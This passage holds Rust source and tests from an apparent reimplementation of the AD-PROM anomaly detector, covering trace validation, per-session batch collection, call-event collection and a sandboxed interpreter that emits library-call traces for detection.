    use adprom_lang::{CallSiteId, LibCall};

    fn event(name: &str) -> CallEvent {
        CallEvent {
            name: name.into(),
            call: LibCall::Printf,
            caller: "main".into(),
            site: CallSiteId(0),
            detail: None,
        }
    }

    fn trace(names: &[&str]) -> Vec<CallEvent> {
        names.iter().map(|n| event(n)).collect()
    }

    #[test]
    fn clean_events_pass() {
        let policy = ValidationPolicy::default();
        for name in ["printf", "PQexec", "printf_Q6", "fwrite_Q12"] {
            assert_eq!(check_event(&event(name), &policy), Ok(()), "{name}");
        }
    }

    #[test]
    fn defective_events_are_rejected() {
        let policy = ValidationPolicy::default();
        assert_eq!(
            check_event(&event(""), &policy),
            Err(EventDefect::EmptyName)
        );
        assert_eq!(
            check_event(&event("prin\u{1}tf"), &policy),
            Err(EventDefect::ControlCharacter)
        );
        assert_eq!(
            check_event(&event(&"x".repeat(513)), &policy),
            Err(EventDefect::Oversized)
        );
        for bad in ["printf_Q", "printf_Qxx", "printf_Q6_extra"] {
            assert_eq!(
                check_event(&event(bad), &policy),
                Err(EventDefect::MalformedLabel),
                "{bad}"
            );
        }
    }

    #[test]
    fn screen_quarantines_only_bad_traces_preserving_order() {
        let validator = TraceValidator::new();
        let sessions: Vec<String> = (0..4).map(|i| format!("conn-{i}")).collect();
        let traces = vec![
            trace(&["printf", "PQexec"]),
            trace(&["printf", "bad\u{2}name"]),
            trace(&["printf_Q6"]),
            trace(&["printf_Qxx"]),
        ];
        let screened = validator.screen(&sessions, &traces);
        assert_eq!(screened.kept_indices, vec![0, 2]);
        assert_eq!(screened.sessions, vec!["conn-0", "conn-2"]);
        assert_eq!(screened.traces[0], traces[0]);
        assert_eq!(screened.traces[1], traces[2]);
        assert_eq!(screened.quarantined.len(), 2);
        assert_eq!(screened.quarantined[0].index, 1);
        assert!(screened.quarantined[0].reason.contains("control character"));
        assert_eq!(screened.quarantined[1].index, 3);
        assert!(screened.quarantined[1].reason.contains("DDG label"));
    }

    #[test]
    fn unknown_fraction_policy_is_opt_in() {
        let known: BTreeSet<String> = ["printf".to_string(), "PQexec".to_string()].into();
        let mostly_unknown = trace(&["evil1", "evil2", "evil3", "printf"]);
        // Default policy: unknown calls are the <unk> path's business.
        let permissive = TraceValidator::new().with_known_symbols(known.clone());
        assert!(permissive.check_trace(&mostly_unknown).is_ok());
        // Opted in: 3/4 unknown > 0.5 quarantines.
        let strict =
            TraceValidator::new()
                .with_known_symbols(known)
                .with_policy(ValidationPolicy {
                    max_unknown_fraction: 0.5,
                    ..ValidationPolicy::default()
                });
        assert!(strict.check_trace(&mostly_unknown).is_err());
        assert!(strict.check_trace(&trace(&["printf", "PQexec"])).is_ok());
    }

    #[test]
    fn empty_and_short_traces_pass_through() {
        // Truncation degrades to shorter windows downstream; it is not an
        // ingest fault.
        let validator = TraceValidator::new();
        assert!(validator.check_trace(&[]).is_ok());
        assert!(validator.check_trace(&trace(&["printf"])).is_ok());
    }

    #[test]
    fn screen_counts_into_registry() {
        let registry = Registry::new();
        let validator = TraceValidator::new().with_registry(&registry);
        let traces = vec![trace(&["printf"]), trace(&["bad\u{3}"])];
        validator.screen(&[], &traces);
        let snap = registry.snapshot();
        assert_eq!(snap.counter("ingest.traces_screened"), Some(2));
        assert_eq!(snap.counter("ingest.traces_quarantined"), Some(1));
        assert_eq!(snap.counter("ingest.events_defective"), Some(1));
    }
}
