//! Batching collector: groups call events from many concurrent sessions
//! into per-session traces for the batched detection pipeline.
//!
//! The paper's deployment monitors an application serving many users; each
//! connection produces its own call stream, and windows never span
//! sessions. [`BatchCollector`] keeps one trace per session key (in
//! first-seen order, so downstream batch results are deterministic) and
//! hands the whole batch to `adprom-core`'s parallel `BatchDetector`.

use crate::collector::{CallEvent, CallSink};
use adprom_obs::{Counter, Gauge, Registry};
use std::collections::BTreeMap;

/// Collects events from multiple sessions into separate traces.
#[derive(Debug, Default, Clone)]
pub struct BatchCollector {
    /// Session key → index into `traces`.
    index: BTreeMap<String, usize>,
    /// First-seen-order session keys, parallel to `traces`.
    sessions: Vec<String>,
    traces: Vec<Vec<CallEvent>>,
    /// `trace.events_ingested`.
    ingested: Counter,
    /// `trace.sessions_opened` — first sight of a session key.
    opened: Counter,
    /// `trace.sessions_closed` — sessions handed off via
    /// [`BatchCollector::into_batch`].
    closed: Counter,
    /// `trace.sessions_open` — currently collecting.
    open_gauge: Gauge,
}

impl BatchCollector {
    /// Creates an empty collector. Instrumentation starts disabled.
    pub fn new() -> BatchCollector {
        BatchCollector::default()
    }

    /// Counts ingested events and opened/closed sessions against
    /// `registry` (`trace.events_ingested`, `trace.sessions_opened`,
    /// `trace.sessions_closed`, and the `trace.sessions_open` gauge).
    pub fn with_registry(mut self, registry: &Registry) -> BatchCollector {
        self.ingested = registry.counter("trace.events_ingested");
        self.opened = registry.counter("trace.sessions_opened");
        self.closed = registry.counter("trace.sessions_closed");
        self.open_gauge = registry.gauge("trace.sessions_open");
        self
    }

    /// Appends an event to `session`'s trace, creating the trace on first
    /// sight of the key.
    pub fn record(&mut self, session: &str, event: CallEvent) {
        let idx = match self.index.get(session) {
            Some(&i) => i,
            None => {
                let i = self.traces.len();
                self.index.insert(session.to_string(), i);
                self.sessions.push(session.to_string());
                self.traces.push(Vec::new());
                self.opened.inc();
                self.open_gauge.add(1);
                i
            }
        };
        self.ingested.inc();
        self.traces[idx].push(event);
    }

    /// Session keys in first-seen order.
    pub fn sessions(&self) -> &[String] {
        &self.sessions
    }

    /// The trace collected for `session`, if any.
    pub fn trace(&self, session: &str) -> Option<&[CallEvent]> {
        self.index.get(session).map(|&i| self.traces[i].as_slice())
    }

    /// All traces in first-seen session order.
    pub fn traces(&self) -> &[Vec<CallEvent>] {
        &self.traces
    }

    /// Number of sessions seen.
    pub fn len(&self) -> usize {
        self.traces.len()
    }

    /// True when no event has been recorded.
    pub fn is_empty(&self) -> bool {
        self.traces.is_empty()
    }

    /// Total events across all sessions.
    pub fn total_events(&self) -> usize {
        self.traces.iter().map(Vec::len).sum()
    }

    /// Consumes the collector, returning `(session keys, traces)` in
    /// first-seen order — the batch fed to the parallel detector. Every
    /// open session counts as closed.
    pub fn into_batch(self) -> (Vec<String>, Vec<Vec<CallEvent>>) {
        self.closed.add(self.sessions.len() as u64);
        self.open_gauge.add(-(self.sessions.len() as i64));
        (self.sessions, self.traces)
    }

    /// A [`CallSink`] adapter that records every call under `session` —
    /// plug it into the interpreter to trace one connection of a
    /// multi-session run.
    pub fn sink(&mut self, session: &str) -> SessionSink<'_> {
        SessionSink {
            collector: self,
            session: session.to_string(),
        }
    }
}

/// A [`CallSink`] view of one session of a [`BatchCollector`].
#[derive(Debug)]
pub struct SessionSink<'c> {
    collector: &'c mut BatchCollector,
    session: String,
}

impl CallSink for SessionSink<'_> {
    fn on_call(&mut self, event: CallEvent) {
        self.collector.record(&self.session, event);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_lang::{CallSiteId, LibCall};

    fn event(name: &str) -> CallEvent {
        CallEvent {
            name: name.into(),
            call: LibCall::Printf,
            caller: "main".into(),
            site: CallSiteId(0),
            detail: None,
        }
    }

    #[test]
    fn sessions_keep_first_seen_order_and_separate_traces() {
        let mut batch = BatchCollector::new();
        batch.record("s2", event("a"));
        batch.record("s1", event("b"));
        batch.record("s2", event("c"));
        assert_eq!(batch.sessions(), &["s2".to_string(), "s1".to_string()]);
        assert_eq!(batch.trace("s2").unwrap().len(), 2);
        assert_eq!(batch.trace("s1").unwrap().len(), 1);
        assert_eq!(batch.trace("nope"), None);
        assert_eq!(batch.len(), 2);
        assert_eq!(batch.total_events(), 3);
        let (sessions, traces) = batch.into_batch();
        assert_eq!(sessions.len(), traces.len());
        assert_eq!(&*traces[0][1].name, "c");
    }

    #[test]
    fn session_sink_routes_calls() {
        let mut batch = BatchCollector::new();
        {
            let mut sink = batch.sink("conn-1");
            sink.on_call(event("x"));
            sink.on_call(event("y"));
        }
        {
            let mut sink = batch.sink("conn-2");
            sink.on_call(event("z"));
        }
        assert_eq!(batch.trace("conn-1").unwrap().len(), 2);
        assert_eq!(batch.trace("conn-2").unwrap().len(), 1);
    }

    #[test]
    fn registry_counts_events_and_session_lifecycle() {
        use adprom_obs::Registry;
        let registry = Registry::new();
        let mut batch = BatchCollector::new().with_registry(&registry);
        batch.record("s1", event("a"));
        batch.record("s2", event("b"));
        batch.record("s1", event("c"));
        let snap = registry.snapshot();
        assert_eq!(snap.counter("trace.events_ingested"), Some(3));
        assert_eq!(snap.counter("trace.sessions_opened"), Some(2));
        assert_eq!(snap.counter("trace.sessions_closed"), Some(0));
        assert_eq!(snap.gauges["trace.sessions_open"], 2);
        let _ = batch.into_batch();
        let snap = registry.snapshot();
        assert_eq!(snap.counter("trace.sessions_closed"), Some(2));
        assert_eq!(snap.gauges["trace.sessions_open"], 0);
    }

    #[test]
    fn empty_collector() {
        let batch = BatchCollector::new();
        assert!(batch.is_empty());
        assert_eq!(batch.total_events(), 0);
    }
}
