//! The Calls Collector (§IV-B2): receives every library call the program
//! issues at run time, along with the caller function.
//!
//! The AD-PROM collector deliberately records *only the (labeled) call name
//! and the caller* — "unlike ltrace, we only collect the names of the
//! library calls without their arguments" (§V-C) — which is where the
//! Table VI overhead win comes from. The heavyweight baseline lives in
//! [`crate::ltrace`].

use adprom_lang::{CallSiteId, LibCall};
use adprom_obs::{Counter, Registry};
use std::sync::Arc;

/// One intercepted library call.
///
/// `name` and `caller` are shared `Arc<str>`s, not `String`s: the bytecode
/// VM interns every observation name and caller at compile time and emits
/// events by bumping refcounts, so trace generation allocates nothing per
/// event. (`"x".into()` and `format!(..).into()` still build the fields
/// directly wherever events are constructed by hand.)
#[derive(Debug, Clone, PartialEq)]
pub struct CallEvent {
    /// Observation name — the raw call name, or the DDG label
    /// (`printf_Q6`) when the site was labeled by the Analyzer.
    pub name: Arc<str>,
    /// The underlying library call.
    pub call: LibCall,
    /// The function that issued the call.
    pub caller: Arc<str>,
    /// The call site.
    pub site: CallSiteId,
    /// Optional extension payload (§VII mitigations): the normalized query
    /// signature for query-submission calls, the file path for file writes,
    /// or the command line for `system` — attached only when the
    /// interpreter runs with `extended_events`.
    pub detail: Option<String>,
}

/// Receives call events during execution. During the training phase a sink
/// accumulates whole program traces; during detection it feeds n-length
/// windows to the Detection Engine.
pub trait CallSink {
    /// Called for every intercepted library call, in program order.
    fn on_call(&mut self, event: CallEvent);
}

/// The production Calls Collector: stores event names (and callers) only.
#[derive(Debug, Default)]
pub struct TraceCollector {
    events: Vec<CallEvent>,
    /// `trace.events_ingested` (no-op unless
    /// [`TraceCollector::with_registry`] installed a live registry).
    ingested: Counter,
}

impl TraceCollector {
    /// Creates an empty collector. Instrumentation starts disabled.
    pub fn new() -> TraceCollector {
        TraceCollector {
            // Typical workload cases emit on the order of a hundred events;
            // starting at a realistic capacity keeps the hot `on_call` push
            // from re-growing the vector several times per trace.
            events: Vec::with_capacity(128),
            ingested: Counter::default(),
        }
    }

    /// Counts every ingested event against `registry`'s
    /// `trace.events_ingested`.
    pub fn with_registry(mut self, registry: &Registry) -> TraceCollector {
        self.ingested = registry.counter("trace.events_ingested");
        self
    }

    /// The collected events.
    pub fn events(&self) -> &[CallEvent] {
        &self.events
    }

    /// The observation-name sequence of the trace.
    pub fn names(&self) -> Vec<String> {
        self.events.iter().map(|e| e.name.to_string()).collect()
    }

    /// Consumes the collector, returning its events.
    pub fn into_events(self) -> Vec<CallEvent> {
        self.events
    }

    /// Number of collected events.
    pub fn len(&self) -> usize {
        self.events.len()
    }

    /// True if nothing was collected.
    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }
}

impl CallSink for TraceCollector {
    fn on_call(&mut self, event: CallEvent) {
        self.ingested.inc();
        self.events.push(event);
    }
}

/// A sink that discards everything (baseline for overhead measurements:
/// running the program "uninstrumented").
#[derive(Debug, Default)]
pub struct NullSink;

impl CallSink for NullSink {
    fn on_call(&mut self, _event: CallEvent) {}
}

/// Splits a trace into overlapping n-length windows — the unit the
/// Detection Engine scores ("the sequence includes the last call and the
/// n−1 past calls", §IV-D). Traces shorter than `n` yield a single,
/// shorter window.
pub fn sliding_windows(names: &[String], n: usize) -> Vec<Vec<String>> {
    assert!(n > 0, "window length must be positive");
    if names.is_empty() {
        return Vec::new();
    }
    if names.len() <= n {
        return vec![names.to_vec()];
    }
    names.windows(n).map(<[String]>::to_vec).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn windows_overlap() {
        let t = names(&["a", "b", "c", "d"]);
        let w = sliding_windows(&t, 2);
        assert_eq!(w.len(), 3);
        assert_eq!(w[0], names(&["a", "b"]));
        assert_eq!(w[2], names(&["c", "d"]));
    }

    #[test]
    fn short_trace_yields_single_window() {
        let t = names(&["a", "b"]);
        let w = sliding_windows(&t, 15);
        assert_eq!(w, vec![names(&["a", "b"])]);
    }

    #[test]
    fn empty_trace_yields_nothing() {
        assert!(sliding_windows(&[], 5).is_empty());
    }

    #[test]
    fn collector_accumulates_in_order() {
        let mut c = TraceCollector::new();
        for (i, name) in ["printf", "PQexec"].iter().enumerate() {
            c.on_call(CallEvent {
                name: (*name).into(),
                call: LibCall::Printf,
                caller: "main".into(),
                site: CallSiteId(i as u32),
                detail: None,
            });
        }
        assert_eq!(c.names(), names(&["printf", "PQexec"]));
        assert_eq!(c.len(), 2);
    }
}
