//! The program runtime: a tree-walking interpreter that executes application
//! programs against the database client layer, reporting every library call
//! to a [`CallSink`].
//!
//! This is the dynamic half of the substrate replacing Dyninst-instrumented
//! native execution: the program *really runs*, queries *really execute*,
//! and the emitted call sequence depends on the data — one extra matching
//! row produces one extra `mysql_fetch_row`/`printf` pair, exactly the
//! behavioural signal AD-PROM monitors.
//!
//! Observation names come from the `site_labels` map produced by the static
//! Analyzer — this is the "dynamic instrumentation" of §IV-D: labeled
//! output sites report `printf_Q<bid>` instead of `printf`.

use crate::collector::{CallEvent, CallSink};
use crate::value::RtValue;
use adprom_client::ClientSession;
use adprom_lang::{BinOp, CallSiteId, Callee, Expr, Function, LibCall, Program, Stmt, UnOp};
use std::collections::HashMap;
use std::fmt;

/// Interpreter configuration.
#[derive(Debug, Clone)]
pub struct ExecConfig {
    /// Evaluation-step budget; exceeded ⇒ [`RuntimeError::StepLimit`].
    pub step_limit: u64,
    /// Seed for `rand()`.
    pub rng_seed: u64,
    /// Attach extension payloads (query signatures, file paths, system
    /// commands) to the matching call events — the §VII mitigations. Off by
    /// default: the baseline collector records names and callers only.
    pub extended_events: bool,
}

impl Default for ExecConfig {
    fn default() -> ExecConfig {
        ExecConfig {
            step_limit: 5_000_000,
            rng_seed: 0xAD50,
            extended_events: false,
        }
    }
}

/// What the program produced.
#[derive(Debug, Clone, Default)]
pub struct ExecOutcome {
    /// Everything written to stdout.
    pub stdout: String,
    /// Virtual filesystem contents (path → content).
    pub files: HashMap<String, String>,
    /// Commands passed to `system()`.
    pub system_commands: Vec<String>,
    /// Evaluation steps consumed.
    pub steps: u64,
    /// True if the program called `exit()`.
    pub exited: bool,
}

/// Runtime errors.
#[derive(Debug, Clone, PartialEq)]
pub enum RuntimeError {
    /// Call to a function that does not exist.
    UndefinedFunction(String),
    /// The step budget was exhausted (runaway loop).
    StepLimit,
    /// The program has no `main`.
    NoMain,
}

impl fmt::Display for RuntimeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RuntimeError::UndefinedFunction(name) => write!(f, "undefined function `{name}`"),
            RuntimeError::StepLimit => write!(f, "step limit exceeded"),
            RuntimeError::NoMain => write!(f, "program has no main"),
        }
    }
}

impl std::error::Error for RuntimeError {}

enum Flow {
    Normal,
    Break,
    Continue,
    Return(RtValue),
    Exit,
}

/// Runs a program to completion.
///
/// * `session` — the database connection the program talks to;
/// * `inputs` — the stdin lines consumed by `scanf`/`gets`/`fgets` (a test
///   case is exactly such an input vector);
/// * `site_labels` — observation names per call site (from the Analyzer);
///   pass an empty map to trace raw names;
/// * `sink` — where call events go.
pub fn run_program(
    prog: &Program,
    session: &mut ClientSession,
    inputs: &[String],
    site_labels: &HashMap<CallSiteId, String>,
    sink: &mut dyn CallSink,
    config: &ExecConfig,
) -> Result<ExecOutcome, RuntimeError> {
    let main = prog.entry().ok_or(RuntimeError::NoMain)?;
    let mut interp = Interp {
        prog,
        session,
        sink,
        labels: site_labels,
        inputs,
        next_input: 0,
        outcome: ExecOutcome::default(),
        config: config.clone(),
        rng_state: config.rng_seed.wrapping_mul(0x9E3779B97F4A7C15) | 1,
        open_files: Vec::new(),
    };
    let mut frame = HashMap::new();
    if let Flow::Exit = interp.run_function(main, &mut frame)? {
        interp.outcome.exited = true;
    }
    Ok(interp.outcome)
}

struct Interp<'a> {
    prog: &'a Program,
    session: &'a mut ClientSession,
    sink: &'a mut dyn CallSink,
    labels: &'a HashMap<CallSiteId, String>,
    inputs: &'a [String],
    next_input: usize,
    outcome: ExecOutcome,
    config: ExecConfig,
    rng_state: u64,
    /// fopen handles: index → path.
    open_files: Vec<String>,
}

type Frame = HashMap<String, RtValue>;

enum Evaled {
    Value(RtValue),
    Exit,
}

/// Evaluates an expression to a value, early-returning on `exit()`.
macro_rules! eval_value {
    ($self:ident, $e:expr, $caller:expr, $frame:expr) => {
        match $self.eval($e, $caller, $frame)? {
            Evaled::Value(v) => v,
            Evaled::Exit => return Ok(Evaled::Exit),
        }
    };
}

impl Interp<'_> {
    fn tick(&mut self) -> Result<(), RuntimeError> {
        self.outcome.steps += 1;
        if self.outcome.steps > self.config.step_limit {
            return Err(RuntimeError::StepLimit);
        }
        Ok(())
    }

    fn run_function(&mut self, func: &Function, frame: &mut Frame) -> Result<Flow, RuntimeError> {
        for stmt in &func.body {
            match self.run_stmt(stmt, &func.name, frame)? {
                Flow::Normal => {}
                other => return Ok(other),
            }
        }
        Ok(Flow::Normal)
    }

    fn run_block(
        &mut self,
        stmts: &[Stmt],
        caller: &str,
        frame: &mut Frame,
    ) -> Result<Flow, RuntimeError> {
        for stmt in stmts {
            match self.run_stmt(stmt, caller, frame)? {
                Flow::Normal => {}
                other => return Ok(other),
            }
        }
        Ok(Flow::Normal)
    }

    fn run_stmt(
        &mut self,
        stmt: &Stmt,
        caller: &str,
        frame: &mut Frame,
    ) -> Result<Flow, RuntimeError> {
        self.tick()?;
        match stmt {
            Stmt::Let(name, e) | Stmt::Assign(name, e) => {
                let v = match self.eval(e, caller, frame)? {
                    Evaled::Value(v) => v,
                    Evaled::Exit => return Ok(Flow::Exit),
                };
                frame.insert(name.clone(), v);
                Ok(Flow::Normal)
            }
            Stmt::Expr(e) => match self.eval(e, caller, frame)? {
                Evaled::Value(_) => Ok(Flow::Normal),
                Evaled::Exit => Ok(Flow::Exit),
            },
            Stmt::If {
                cond,
                then_branch,
                else_branch,
            } => {
                let c = match self.eval(cond, caller, frame)? {
                    Evaled::Value(v) => v,
                    Evaled::Exit => return Ok(Flow::Exit),
                };
                if c.truthy() {
                    self.run_block(then_branch, caller, frame)
                } else {
                    self.run_block(else_branch, caller, frame)
                }
            }
            Stmt::While { cond, body } => loop {
                let c = match self.eval(cond, caller, frame)? {
                    Evaled::Value(v) => v,
                    Evaled::Exit => return Ok(Flow::Exit),
                };
                if !c.truthy() {
                    return Ok(Flow::Normal);
                }
                match self.run_block(body, caller, frame)? {
                    Flow::Normal | Flow::Continue => {}
                    Flow::Break => return Ok(Flow::Normal),
                    other => return Ok(other),
                }
                self.tick()?;
            },
            Stmt::For {
                init,
                cond,
                step,
                body,
            } => {
                match self.run_stmt(init, caller, frame)? {
                    Flow::Normal => {}
                    other => return Ok(other),
                }
                loop {
                    let c = match self.eval(cond, caller, frame)? {
                        Evaled::Value(v) => v,
                        Evaled::Exit => return Ok(Flow::Exit),
                    };
                    if !c.truthy() {
                        return Ok(Flow::Normal);
                    }
                    match self.run_block(body, caller, frame)? {
                        Flow::Normal | Flow::Continue => {}
                        Flow::Break => return Ok(Flow::Normal),
                        other => return Ok(other),
                    }
                    match self.run_stmt(step, caller, frame)? {
                        Flow::Normal => {}
                        other => return Ok(other),
                    }
                    self.tick()?;
                }
            }
            Stmt::Return(e) => {
                let v = match e {
                    None => RtValue::Null,
                    Some(e) => match self.eval(e, caller, frame)? {
                        Evaled::Value(v) => v,
                        Evaled::Exit => return Ok(Flow::Exit),
                    },
                };
                Ok(Flow::Return(v))
            }
            Stmt::Break => Ok(Flow::Break),
            Stmt::Continue => Ok(Flow::Continue),
        }
    }

    fn eval(&mut self, e: &Expr, caller: &str, frame: &mut Frame) -> Result<Evaled, RuntimeError> {
        self.tick()?;
        let v = match e {
            Expr::Int(v) => RtValue::Int(*v),
            Expr::Float(v) => RtValue::Float(*v),
            Expr::Str(s) => RtValue::Str(s.clone()),
            Expr::Bool(b) => RtValue::Bool(*b),
            Expr::Null => RtValue::Null,
            // Uninitialized variables read as NULL (C uninitialized-global
            // semantics) — attack-mutated programs may reference variables
            // declared on other paths, and the run must not abort.
            Expr::Var(name) => frame.get(name).cloned().unwrap_or(RtValue::Null),
            Expr::Unary(op, a) => {
                let va = eval_value!(self, a, caller, frame);
                match op {
                    UnOp::Neg => match va {
                        RtValue::Int(v) => RtValue::Int(-v),
                        RtValue::Float(v) => RtValue::Float(-v),
                        other => RtValue::Float(-other.as_number().unwrap_or(0.0)),
                    },
                    UnOp::Not => RtValue::Bool(!va.truthy()),
                }
            }
            Expr::Binary(op, a, b) => {
                // Short-circuit logicals.
                if *op == BinOp::And {
                    let va = eval_value!(self, a, caller, frame);
                    if !va.truthy() {
                        return Ok(Evaled::Value(RtValue::Bool(false)));
                    }
                    let vb = eval_value!(self, b, caller, frame);
                    return Ok(Evaled::Value(RtValue::Bool(vb.truthy())));
                }
                if *op == BinOp::Or {
                    let va = eval_value!(self, a, caller, frame);
                    if va.truthy() {
                        return Ok(Evaled::Value(RtValue::Bool(true)));
                    }
                    let vb = eval_value!(self, b, caller, frame);
                    return Ok(Evaled::Value(RtValue::Bool(vb.truthy())));
                }
                let va = eval_value!(self, a, caller, frame);
                let vb = eval_value!(self, b, caller, frame);
                binary_op(*op, va, vb)
            }
            Expr::Index(a, idx) => {
                let va = eval_value!(self, a, caller, frame);
                let vi = eval_value!(self, idx, caller, frame);
                let i = vi.as_int().unwrap_or(0).max(0) as usize;
                match va {
                    RtValue::Row(cols) => cols
                        .get(i)
                        .map(|s| RtValue::Str(s.clone()))
                        .unwrap_or(RtValue::Null),
                    RtValue::Str(s) => s
                        .chars()
                        .nth(i)
                        .map(|c| RtValue::Str(c.to_string()))
                        .unwrap_or(RtValue::Null),
                    _ => RtValue::Null,
                }
            }
            Expr::Call {
                site, callee, args, ..
            } => {
                // Evaluate arguments first (their nested calls are emitted
                // before this one, matching the trace order of native code).
                let mut arg_values = Vec::with_capacity(args.len());
                for a in args {
                    arg_values.push(eval_value!(self, a, caller, frame));
                }
                match callee {
                    Callee::User(name) => {
                        let func = self
                            .prog
                            .function(name)
                            .ok_or_else(|| RuntimeError::UndefinedFunction(name.clone()))?
                            .clone();
                        let mut callee_frame: Frame = HashMap::new();
                        for (p, v) in func.params.iter().zip(arg_values) {
                            callee_frame.insert(p.clone(), v);
                        }
                        match self.run_function(&func, &mut callee_frame)? {
                            Flow::Return(v) => v,
                            Flow::Exit => return Ok(Evaled::Exit),
                            _ => RtValue::Null,
                        }
                    }
                    Callee::Library(lc) => {
                        let name = self
                            .labels
                            .get(site)
                            .cloned()
                            .unwrap_or_else(|| lc.name().to_string());
                        let detail = if self.config.extended_events {
                            event_detail(*lc, &arg_values, &self.open_files)
                        } else {
                            None
                        };
                        self.sink.on_call(CallEvent {
                            name,
                            call: *lc,
                            caller: caller.to_string(),
                            site: *site,
                            detail,
                        });
                        match self.lib_call(*lc, args, arg_values, frame)? {
                            Some(v) => v,
                            None => return Ok(Evaled::Exit),
                        }
                    }
                }
            }
        };
        Ok(Evaled::Value(v))
    }

    /// Executes a library call. Returns `None` for `exit()`.
    fn lib_call(
        &mut self,
        lc: LibCall,
        arg_exprs: &[Expr],
        args: Vec<RtValue>,
        frame: &mut Frame,
    ) -> Result<Option<RtValue>, RuntimeError> {
        let arg = |i: usize| args.get(i).cloned().unwrap_or(RtValue::Null);
        let str_arg = |i: usize| arg(i).render();
        let handle = |i: usize| match arg(i) {
            RtValue::Handle(h) => Some(h),
            _ => None,
        };
        let v = match lc {
            // ---- libpq ----
            LibCall::PQconnectdb => RtValue::Str(str_arg(0)),
            LibCall::PQexec => match self.session.pq_exec(&str_arg(1)) {
                Ok(h) => RtValue::Handle(h),
                Err(_) => RtValue::Null,
            },
            LibCall::PQprepare => {
                let _ = self.session.pq_prepare(&str_arg(1), &str_arg(2));
                RtValue::Int(0)
            }
            LibCall::PQexecPrepared => {
                let params: Vec<String> = args[2..].iter().map(RtValue::render).collect();
                match self.session.pq_exec_prepared(&str_arg(1), &params) {
                    Ok(h) => RtValue::Handle(h),
                    Err(_) => RtValue::Null,
                }
            }
            // Handle-taking calls are lenient on NULL/garbage handles —
            // attack-mutated programs may query missing tables, and a run
            // must degrade (empty results) rather than abort.
            LibCall::PQntuples => match handle(0) {
                Some(h) => RtValue::Int(self.session.pq_ntuples(h).unwrap_or(0) as i64),
                None => RtValue::Int(0),
            },
            LibCall::PQnfields => match handle(0) {
                Some(h) => RtValue::Int(self.session.pq_nfields(h).unwrap_or(0) as i64),
                None => RtValue::Int(0),
            },
            LibCall::PQgetvalue => match handle(0) {
                Some(h) => {
                    let r = arg(1).as_int().unwrap_or(0).max(0) as usize;
                    let c = arg(2).as_int().unwrap_or(0).max(0) as usize;
                    RtValue::Str(self.session.pq_getvalue(h, r, c).unwrap_or_default())
                }
                None => RtValue::Str(String::new()),
            },
            LibCall::PQclear => {
                if let Some(h) = handle(0) {
                    let _ = self.session.pq_clear(h);
                }
                RtValue::Null
            }
            LibCall::PQfinish => RtValue::Null,

            // ---- libmysqlclient ----
            LibCall::MysqlInit | LibCall::MysqlRealConnect => RtValue::Str("conn".into()),
            LibCall::MysqlQuery => RtValue::Int(self.session.mysql_query(&str_arg(1))),
            LibCall::MysqlStoreResult => match self.session.mysql_store_result() {
                Ok(h) => RtValue::Handle(h),
                Err(_) => RtValue::Null,
            },
            LibCall::MysqlFetchRow => match handle(0) {
                Some(h) => match self.session.mysql_fetch_row(h) {
                    Ok(Some(row)) => RtValue::Row(row),
                    _ => RtValue::Null,
                },
                None => RtValue::Null,
            },
            LibCall::MysqlNumRows => match handle(0) {
                Some(h) => RtValue::Int(self.session.mysql_num_rows(h).unwrap_or(0) as i64),
                None => RtValue::Int(0),
            },
            LibCall::MysqlNumFields => match handle(0) {
                Some(h) => RtValue::Int(self.session.mysql_num_fields(h).unwrap_or(0) as i64),
                None => RtValue::Int(0),
            },
            LibCall::MysqlFreeResult => {
                if let Some(h) = handle(0) {
                    let _ = self.session.mysql_free_result(h);
                }
                RtValue::Null
            }
            LibCall::MysqlClose => RtValue::Null,
            LibCall::MysqlStmtPrepare => {
                let _ = self.session.mysql_stmt_prepare(&str_arg(1));
                RtValue::Int(0)
            }
            LibCall::MysqlStmtExecute => {
                let params: Vec<String> = args[1..].iter().map(RtValue::render).collect();
                let _ = self.session.mysql_stmt_execute(&params);
                RtValue::Int(0)
            }

            // ---- stdout ----
            LibCall::Printf => {
                let text = format_printf(&str_arg(0), &args[1.min(args.len())..]);
                self.outcome.stdout.push_str(&text);
                RtValue::Int(text.len() as i64)
            }
            LibCall::Puts => {
                self.outcome.stdout.push_str(&str_arg(0));
                self.outcome.stdout.push('\n');
                RtValue::Int(0)
            }
            LibCall::Putchar => {
                self.outcome.stdout.push_str(&str_arg(0));
                RtValue::Int(0)
            }

            // ---- files ----
            LibCall::Fopen => {
                let path = str_arg(0);
                let mode = str_arg(1);
                if !mode.contains('a') {
                    self.outcome.files.insert(path.clone(), String::new());
                } else {
                    self.outcome.files.entry(path.clone()).or_default();
                }
                self.open_files.push(path);
                RtValue::File(self.open_files.len() - 1)
            }
            LibCall::Fprintf => {
                let text = format_printf(&str_arg(1), &args[2.min(args.len())..]);
                self.write_file(arg(0), &text);
                RtValue::Int(text.len() as i64)
            }
            LibCall::Fputs | LibCall::Fputc => {
                let text = str_arg(0);
                self.write_file(arg(1), &text);
                RtValue::Int(0)
            }
            LibCall::Fwrite => {
                let text = str_arg(0);
                self.write_file(arg(3), &text);
                RtValue::Int(text.len() as i64)
            }
            LibCall::Write => {
                // write(fd, buf, len): fd 1 = stdout, else a virtual fd.
                let fd = arg(0);
                let text = str_arg(1);
                if fd.as_int() == Some(1) {
                    self.outcome.stdout.push_str(&text);
                } else {
                    self.write_file(fd, &text);
                }
                RtValue::Int(text.len() as i64)
            }
            LibCall::Fclose | LibCall::Fflush => RtValue::Int(0),
            LibCall::Fread => RtValue::Str(String::new()),
            LibCall::Remove => {
                self.outcome.files.remove(&str_arg(0));
                RtValue::Int(0)
            }

            // ---- stdin ----
            LibCall::Scanf | LibCall::Gets | LibCall::Getchar => {
                let v = self.read_input();
                // scanf("%s", var)-style: if a variable expression was
                // passed as the last argument, also store into it.
                if let Some(Expr::Var(name)) = arg_exprs.last() {
                    frame.insert(name.clone(), v.clone());
                }
                v
            }
            LibCall::Fscanf | LibCall::Fgets => {
                let v = self.read_input();
                if let Some(Expr::Var(name)) = arg_exprs.first() {
                    frame.insert(name.clone(), v.clone());
                }
                v
            }

            // ---- strings ----
            LibCall::Strcpy | LibCall::Strncpy => {
                let src = str_arg(1);
                self.store_into(arg_exprs.first(), RtValue::Str(src.clone()), frame);
                RtValue::Str(src)
            }
            LibCall::Strcat | LibCall::Strncat => {
                let mut dst = str_arg(0);
